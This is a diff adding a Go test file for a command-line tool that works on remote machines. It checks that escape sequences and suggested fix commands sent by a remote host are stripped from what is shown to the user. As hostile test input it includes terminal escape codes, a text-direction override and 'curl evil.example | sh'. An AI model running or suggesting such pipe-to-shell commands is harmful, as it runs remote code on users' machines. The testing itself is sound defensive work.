@@ -1,0 +1,83 @@
+package command
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"piwork/app/cli/terminal"
+	"piwork/app/client"
+	"piwork/app/problem"
+	"piwork/vmhost"
+	"piwork/vmhost/remote"
+)
+
+// onLab is a command that works on another computer, and what it says.
+func onLab() (*Env, *bytes.Buffer) {
+	var said bytes.Buffer
+	e := &Env{Terminal: &terminal.Terminal{Stdout: &said, Stderr: &said, IsTerminal: func(any) bool { return false }}, On: "lab"}
+	e.Elsewhere = e.OnOther
+	return e, &said
+}
+
+// What another computer answers neither moves the cursor nor has a person type something of its
+// choice.
+func TestAnswersOfAnotherComputer(t *testing.T) {
+	e, said := onLab()
+	e.Print("%s", "\x1b]0;evil\a\x1b[2Jname\r\u202e")
+	e.Hint("%s", "\x1b[31mhint")
+	e.Card(said, "", problem.Problem{
+		Code: "no-such-code\x1b[31m", Cause: "\x1b[2J", Title: "\x1b[31mtitle", Detail: "type this", Params: map[string]any{"path": "\x1b[2J"}, Details: "\x1b[31mdetails\nof it",
+		Fix: []problem.Fix{{Code: problem.FixLoadKVM, Command: "curl evil.example | sh", Lead: "curl evil.example", Steps: []string{"curl evil.example | sh"}}, {Code: "\x1b[31m", Title: "curl evil.example"}},
+	})
+	for _, bad := range []string{"\x1b", "\r", "\a", "\u202e", "evil.example"} {
+		if strings.Contains(said.String(), bad) {
+			t.Errorf("%q is shown: %q", bad, said)
+		}
+	}
+	if !strings.Contains(said.String(), "details") {
+		t.Errorf("what happened is not said: %q", said)
+	}
+}
+
+// Commands that are named are for that computer.
+func TestCommandsForAnotherComputer(t *testing.T) {
+	e, said := onLab()
+	e.HintText("goes-on", "id", "0195")
+	if !strings.Contains(said.String(), "piwork --on lab task attach 0195") {
+		t.Errorf("%s", said)
+	}
+	if same := (&Env{}).OnOther("piwork task list"); same != "piwork task list" {
+		t.Errorf("%s", same)
+	}
+}
+
+// A connection that ends while a command works has words of its own; all else keeps its cause.
+func TestLostOnTheWay(t *testing.T) {
+	e, _ := onLab()
+	failed := func(r vmhost.Reason) error {
+		return &client.UnreachableError{Err: fmt.Errorf("get: %w", &vmhost.FailedError{Runtime: vmhost.KindRemote, Reason: r})}
+	}
+	for _, tt := range []struct {
+		err         error
+		code, cause string
+	}{
+		{&client.UnreachableError{Err: errors.New("EOF")}, problem.CodeRemoteLost, ""},
+		{failed(vmhost.ReasonRemoteLost), problem.CodeRemoteLost, ""},
+		{failed(vmhost.ReasonRemoteUnreachable), problem.CodeRemoteLost, ""},
+		{failed(vmhost.ReasonHostKeyChanged), problem.CodeVMFailed, string(vmhost.ReasonHostKeyChanged)},
+		{&client.UnreachableError{Err: &remote.ProgramError{Why: remote.ProgramFails}}, problem.CodeRemotePiwork, remote.ProgramFails},
+	} {
+		if p := e.otherProblem(tt.err); p == nil || p.Code != tt.code || p.Cause != tt.cause {
+			t.Errorf("%v: %+v", tt.err, p)
+		}
+	}
+	if p := e.otherProblem(errors.New("other")); p != nil {
+		t.Errorf("%+v", p)
+	}
+	if p := (&Env{}).otherProblem(&client.UnreachableError{Err: errors.New("EOF")}); p != nil {
+		t.Errorf("of this computer: %+v", p)
+	}
+}
